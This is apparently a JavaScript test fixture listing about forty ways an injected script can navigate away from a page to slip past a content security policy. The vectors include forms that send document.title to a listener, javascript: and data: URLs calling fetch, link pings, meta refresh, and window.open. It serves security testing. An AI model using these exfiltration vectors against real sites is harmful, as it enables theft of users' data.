// What a script that was injected into a page tries in order to go elsewhere or to open another
// page: a navigation is not a connection that a content security policy knows of.

const leakingPage = ({ http }) =>
  JSON.stringify(`<img src="${http}"><script>location.href = "${http}"</script>`);

const form = (attributes, target, act) => `
  const form = put("form", ${JSON.stringify(attributes)});
  form.target = "${target}";
  put("input", { name: "words", value: document.title }, form);
  ${act}`;

const click = (attributes) =>
  `put("a", ${JSON.stringify({ textContent: "x", ...attributes })}).click()`;

const svg = (inside) =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">${inside}</svg>`;

const clickWithin = (markup, what) => `
  const place = put("div", {});
  place.innerHTML = ${JSON.stringify(markup)};
  const event = new MouseEvent("click", { bubbles: true, cancelable: true, view: window });
  place.querySelector("${what}").dispatchEvent(event)`;

/** Name of the attempt and its script, for the addresses of its listener. */
export const LEAVING = {
  "form, get": ({ http }) => form({ action: http, method: "get" }, "", "form.submit()"),
  "form, post": ({ http }) => form({ action: http, method: "post" }, "", "form.submit()"),
  "form, a file's kind": ({ http }) =>
    form({ action: http, method: "post", enctype: "multipart/form-data" }, "", "form.submit()"),
  "form, the button's address": ({ http }) =>
    form({}, "", `put("button", { formAction: "${http}" }, form).click()`),
  "form, requestSubmit": ({ http }) => form({ action: http }, "", "form.requestSubmit()"),
  "form into a new window": ({ http }) => form({ action: http }, "_blank", "form.submit()"),
  "form into a frame": ({ http }) =>
    `put("iframe", { name: "inner" }); ${form({ action: http }, "inner", "form.submit()")}`,
  "form out of the page": ({ http }) => `
    const button = put("button", { formAction: "${http}" });
    put("form", { id: "outer" }); button.setAttribute("form", "outer"); button.click()`,

  "location.href": ({ http }) => `location.href = "${http}"`,
  "location.assign": ({ http }) => `location.assign("${http}")`,
  "location.replace": ({ http }) => `location.replace("${http}")`,
  "location, localhost by name": ({ byName }) => `location.href = "${byName}"`,
  "location, https": ({ https }) => `location.href = "${https}"`,
  "location, part by part": ({ host }) =>
    `const to = new URL(location.href); to.protocol = "http:"; to.host = "${host}"; location = to.protocol + "//${host}/"`,
  "document.location": ({ http }) => `document.location = "${http}"`,
  "top.location": ({ http }) => `top.location = "${http}"`,
  "location, later": ({ http }) => `setTimeout(() => { location.href = "${http}"; }, 0)`,
  "location, javascript": ({ http }) => `location.href = 'javascript:fetch("${http}")'`,
  "location, data": (at) =>
    `location.href = "data:text/html," + encodeURIComponent(${leakingPage(at)})`,
  "location, blob": (at) =>
    `location.href = URL.createObjectURL(new Blob([${leakingPage(at)}], { type: "text/html" }))`,
  "history, another's address": ({ http }) => `history.pushState({}, "", "${http}")`,
  "navigation.navigate": ({ http }) => `navigation.navigate("${http}")`,
  "meta refresh": ({ http }) =>
    `put("meta", { httpEquiv: "refresh", content: "0;url=${http}" }, document.head)`,
  "meta refresh, data": ({ http }) =>
    `put("meta", { httpEquiv: "refresh", content: '0;url=data:text/html,<img src="${http}">' }, document.head)`,

  "a link": ({ http }) => click({ href: http }),
  "a link into a new window": ({ http }) => click({ href: http, target: "_blank" }),
  "a link with opener": ({ http }) => click({ href: http, target: "_blank", rel: "opener" }),
  "a link to download": ({ http }) => click({ href: http, download: "x.txt" }),
  "a link that pings": ({ http }) => click({ href: "#x", ping: http }),
  "a link, javascript": ({ http }) => click({ href: `javascript:fetch("${http}")` }),
  "a link in an SVG": ({ http }) =>
    clickWithin(svg(`<a href="${http}"><text id="t">x</text></a>`), "#t"),
  "a link in an SVG, xlink": ({ http }) =>
    clickWithin(svg(`<a xlink:href="${http}"><text id="t">x</text></a>`), "#t"),
  "a link in MathML": ({ http }) =>
    clickWithin(
      `<math xmlns="http://www.w3.org/1998/Math/MathML"><mrow href="${http}"><mi id="m">x</mi></mrow></math>`,
      "#m",
    ),
  "an area of a picture": ({ http }) =>
    clickWithin(`<map name="m"><area shape="default" href="${http}"></map>`, "area"),
  "a link below another base": ({ origin, path }) => `
    put("base", { href: "${origin}" }, document.head);
    put("a", { textContent: "x" }).setAttribute("href", "${path}");
    document.querySelector("a:last-of-type").click()`,

  "window.open": ({ http }) => `open("${http}")`,
  "window.open, this window": ({ http }) => `open("${http}", "_self")`,
  "window.open, the one above": ({ http }) => `open("${http}", "_parent")`,
  "window.open, a window of a name": ({ http }) =>
    `open("${http}", "consent", "width=720,height=760")`,
  "window.open, empty and written to": (at) =>
    `const other = open("", "_blank"); other.document.write(${leakingPage(at)})`,
  "window.open, blob": (at) =>
    `open(URL.createObjectURL(new Blob([${leakingPage(at)}], { type: "text/html" })))`,
  "window.open, javascript": ({ http }) => `open('javascript:fetch("${http}")', "_self")`,
};
